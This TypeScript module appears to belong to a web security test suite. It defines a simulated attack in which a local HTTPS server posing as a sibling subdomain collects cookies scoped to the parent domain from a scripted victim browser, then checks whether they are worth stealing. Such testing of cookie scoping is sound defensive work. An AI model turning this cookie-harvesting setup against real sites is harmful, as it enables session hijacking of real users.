/** A cookie for `.example.test` goes to every host below it. The attacker runs one, and the victim comes by. */
import { createServer, type Server } from 'node:https'
import type { AddressInfo } from 'node:net'
import { defineAttack } from './attack.ts'
import { createCertificate } from './lib/certificate.ts'
import type { Pair } from './lib/jar.ts'
import { brief, settle, spoils } from './lib/people.ts'

export const domain = defineAttack('F5 a sibling host receives the cookie', ['sibling'], async (target) => {
  const victim = await settle(target)
  const received: Pair[] = []
  const server = createServer(createCertificate([target.sibling!]), (req, res) => {
    for (const pair of (req.headers.cookie ?? '').split(/; */).filter(Boolean)) {
      const at = pair.indexOf('=')
      received.push([pair.slice(0, at), pair.slice(at + 1)])
    }
    res.end('A blog about tea.\n')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  try {
    const { port } = server.address() as AddressInfo
    await victim.browser.load(`https://${target.sibling}:${port}/`, { from: `${target.url}/` })
    const got = received.length > 0 ? await spoils(target, victim, received) : undefined
    if (got) return { got: true, evidence: `${got}, to ${brief(received)}, which she sent to ${target.sibling}` }
    return { got: false, evidence: `${target.sibling} receives ${brief(received) || 'no cookie'}` }
  } finally {
    await close(server)
  }
})

function close(server: Server): Promise<void> {
  return new Promise((resolve) => {
    server.close(() => resolve())
    server.closeAllConnections()
  })
}
